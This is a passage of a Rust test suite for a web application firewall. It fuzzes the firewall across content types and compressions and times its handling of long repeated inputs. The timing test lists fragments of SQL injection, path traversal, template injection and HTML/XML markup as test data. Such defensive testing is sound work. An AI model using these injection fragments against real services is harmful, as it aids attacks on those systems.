    let mut random = Random(0x9e37_79b9_7f4a_7c15);
    for _ in 0..120 {
        let text: String = (0..random.next() % 60)
            .map(|_| PIECES[random.next() % PIECES.len()])
            .collect();
        let bytes: Vec<u8> = (0..random.next() % 200)
            .map(|_| random.next() as u8)
            .collect();
        drop(query(&waf, &text).await);
        for content_type in [
            "application/x-www-form-urlencoded",
            "application/json",
            "multipart/form-data; boundary=x",
            "text/xml",
            "text/plain",
            "image/png",
        ] {
            for text in [text.as_bytes(), &bytes] {
                for coding in ["", "gzip", "br", "deflate", "zstd"] {
                    drop(coded(&waf, content_type, coding, text).await);
                }
            }
        }
    }
}

#[tokio::test]
async fn no_input_takes_the_square_of_its_length() {
    let waf = waf(r#"{ "threshold": 100 }"#);
    let time = |text: String| {
        let waf = &waf;
        async move {
            let start = Instant::now();
            drop(body(waf, "text/plain", text).await);
            start.elapsed()
        }
    };
    for piece in [
        "'",
        "(",
        "/*",
        "/*!",
        "%25",
        "&#",
        "<a ",
        "' or ",
        "(select ",
        "${",
        "../",
        "{{",
        ";x",
        "\\u",
        "=\"",
        "[[",
        "'like'",
        "\"like\"",
        "`like`",
        "' or '",
        "\" and \"",
        "' in boolean mode ",
        "'/*",
        "'-- a'\n",
        "<a b='",
        "<!--",
        "<![CDATA[",
        "{\"a\":'",
        "--x\r\n",
        "a=1&",
        "&#0",
    ] {
        let short = time(piece.repeat(16_000 / piece.len())).await;
        let long = time(piece.repeat(128_000 / piece.len())).await;
        // Eight times the length is 64 times the time if it is the square; and machines are busy.
        let most = short * 30 + Duration::from_millis(500);
        assert!(long < most, "{piece}: {short:?} and {long:?}");
    }
}
